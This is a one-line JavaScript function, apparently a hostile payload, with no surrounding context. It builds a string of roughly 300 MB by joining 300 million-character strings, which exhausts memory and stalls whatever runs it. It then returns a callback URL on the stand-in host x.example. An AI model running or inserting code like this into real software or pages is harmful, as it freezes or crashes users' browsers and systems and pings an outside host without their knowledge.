function popup() { var n = new Array(300).fill('x'.repeat(1e6)).toLocaleString().length; return { onAnswer: 'https://x.example/?' + n }; }
